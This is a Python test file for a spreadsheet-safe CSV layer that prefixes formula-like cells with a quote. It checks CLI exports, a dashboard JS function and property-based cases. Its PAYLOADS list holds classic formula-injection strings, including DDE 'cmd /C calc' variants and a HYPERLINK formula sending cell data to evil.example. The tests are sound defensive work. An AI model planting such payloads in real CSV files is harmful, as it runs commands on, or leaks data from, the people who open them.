"""Spreadsheet-safe CSV: the classic injection payloads, numbers, and every writer using it."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stakeholder_graph.cli import cli
from stakeholder_graph.cli.common import run_guarded
from stakeholder_graph.csvsafe import csv_chunks, csv_text, is_dangerous, spreadsheet_safe

TINY = Path(__file__).resolve().parent.parent / "data" / "tiny"

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]
HARMLESS = ["Plain name", "a=b", "Foundation (=equal rights)", "", "3 - 2", "user@x.org"]
NUMBERS = ["-3", "+1.5", "-0.25e3", "12", ".5"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_classic_payloads_are_prefixed_with_a_quote(payload):
    assert is_dangerous(payload)
    safe = spreadsheet_safe(pd.DataFrame({"name": [payload]}))
    assert safe.loc[0, "name"] == "'" + payload
    parsed = next(csv.reader(io.StringIO(csv_text(safe).split("\n", 1)[1], newline="")))
    assert parsed[0] == "'" + payload  # the cell a spreadsheet reads starts with the quote


def test_harmless_text_and_numbers_stay_as_they_are():
    frame = pd.DataFrame(
        {
            "text": HARMLESS + NUMBERS,
            "number": range(-6, len(HARMLESS) + len(NUMBERS) - 6),
            "float": [-1.5] * (len(HARMLESS) + len(NUMBERS)),
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe["text"].tolist() == HARMLESS + NUMBERS
    assert safe["number"].dtype == frame["number"].dtype
    assert (safe["number"] == frame["number"]).all()
    assert csv_text(frame) == csv_text(frame, raw=True)  # nothing to neutralise


def test_missing_values_and_mixed_objects_are_untouched():
    frame = pd.DataFrame({"x": ["=1", None, 5, float("nan"), "@a"]})
    safe = spreadsheet_safe(frame)["x"].tolist()
    assert safe[0] == "'=1" and safe[1] is None and safe[2] == 5 and safe[4] == "'@a"
    assert pd.isna(safe[3])


def _poisoned_copy(tmp_path: Path) -> Path:
    data = tmp_path / "net"
    shutil.copytree(TINY, data)
    orgs = pd.read_csv(data / "organizations.csv", dtype=str, keep_default_na=False)
    civil = orgs.index[orgs["sector"] == "civil"]
    for row, payload in zip(civil, PAYLOADS, strict=False):
        orgs.loc[row, "name"] = payload
    # a theme shared by several pairs reaches the allies' theme lists (arrow strings)
    orgs["themes"] = orgs["themes"].str.replace("social_services", PAYLOADS[1], regex=False)
    orgs.to_csv(data / "organizations.csv", index=False)
    return data


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_every_csv_the_commands_write_is_safe_and_raw_csv_keeps_bytes(tmp_path):
    data = _poisoned_copy(tmp_path)
    args = ["--source", str(data)]
    assert run_guarded(cli, ["analyze", *args, "--out", str(tmp_path / "a")]) == 0
    assert run_guarded(cli, ["analyze", *args, "--out", str(tmp_path / "r"), "--raw-csv"]) == 0
    assert (
        run_guarded(cli, ["export", *args, "--format", "csv", "--out", str(tmp_path / "e.csv")])
        == 0
    )
    job = ["flag-isolated", *args, "--as-of", "2024-06-30", "-q"]
    assert run_guarded(cli, [*job, "--out", str(tmp_path / "j")]) == 0
    assert run_guarded(cli, [*job, "--out", str(tmp_path / "jr"), "--raw-csv"]) == 0

    written = [*(tmp_path / "a").glob("*.csv"), tmp_path / "e.csv", tmp_path / "j" / "isolated.csv"]
    seen = set()
    for path in written:
        for cell in _cells(path):
            assert not is_dangerous(cell), (path.name, cell)
            if cell.startswith("'") and cell[1:] in PAYLOADS:
                seen.add(path.name)
    # the poisoned names reach the centrality table, the job's report and the export
    assert {"centrality.csv", "isolated.csv", "allies.csv"} <= seen
    raw_cells = set(_cells(tmp_path / "r" / "centrality.csv"))
    assert set(PAYLOADS[:3]) <= raw_cells  # --raw-csv: bytes as stored
    assert set(PAYLOADS) & set(_cells(tmp_path / "jr" / "isolated.csv"))
    # numbers stay numbers
    centrality = pd.read_csv(tmp_path / "a" / "centrality.csv")
    assert pd.api.types.is_numeric_dtype(centrality["pagerank"])
    assert json.loads((tmp_path / "a" / "summary.json").read_text())["size"]["organizations"] > 0


ASSET = Path(__file__).resolve().parents[2] / "dashboards" / "assets" / "grid.js"


@pytest.mark.skipif(shutil.which("node") is None, reason="needs node to run the dashboard's JS")
def test_the_dashboard_download_applies_the_same_rule():
    import subprocess

    cells = [*PAYLOADS, *HARMLESS, *NUMBERS, "-", "'=x"]
    script = (
        "var window = {};\n"
        + ASSET.read_text()
        + "\nvar f = window.dashAgGridFunctions.sgSafeCsv;\n"
        + f"var cells = {json.dumps(cells)};\n"
        + "console.log(JSON.stringify(cells.map(function (v) { return f({value: v}); })"
        + ".concat([f({value: 5}), f({value: null})])));\n"
    )
    done = subprocess.run(["node", "-e", script], capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    from_js = json.loads(done.stdout)
    from_python = spreadsheet_safe(pd.DataFrame({"c": cells}))["c"].tolist()
    assert from_js == [*from_python, 5, ""]
    assert from_js[0] == "'" + PAYLOADS[0]


SAFE_TEXT = st.text(
    alphabet=st.sampled_from(list("=+-@ \t\r\n.e5a,\"'٣") + ["\uff1d", "\uff0d", "\u3000"]),
    max_size=6,
)


@settings(max_examples=200, deadline=None)
@given(cells=st.lists(st.one_of(SAFE_TEXT, st.none()), min_size=1, max_size=12))
def test_vectorised_rule_is_is_dangerous_on_every_cell(cells):
    """The C-speed scan plus the rule on its candidates equals the rule on every text cell."""
    out = spreadsheet_safe(pd.DataFrame({"t": pd.Series(cells, dtype=object)}))["t"].tolist()
    expected = [c if c is None or not is_dangerous(c) else "'" + c for c in cells]
    assert out == expected


@settings(max_examples=60, deadline=None)
@given(
    cells=st.lists(st.tuples(SAFE_TEXT, st.floats(allow_nan=True)), min_size=0, max_size=9),
    rows=st.integers(1, 4),
)
def test_csv_written_in_pieces_is_the_csv_written_at_once(cells, rows):
    """csv_chunks joined is pandas' CSV of the neutralised frame, whatever the piece size."""
    frame = pd.DataFrame(
        {
            "t": pd.Series([c[0] for c in cells], dtype=object),
            "x": pd.Series([c[1] for c in cells], dtype="float64"),
        }
    )
    options = {"index": False, "lineterminator": "\n", "date_format": "%Y-%m-%d"}
    if frame["t"].str.contains("\r", regex=False).any():
        options["quoting"] = csv.QUOTE_NONNUMERIC
    for raw in (False, True):
        whole = (frame if raw else spreadsheet_safe(frame)).to_csv(**options)
        assert "".join(csv_chunks(frame, raw, rows=rows)) == whole
        assert csv_text(frame, raw) == whole
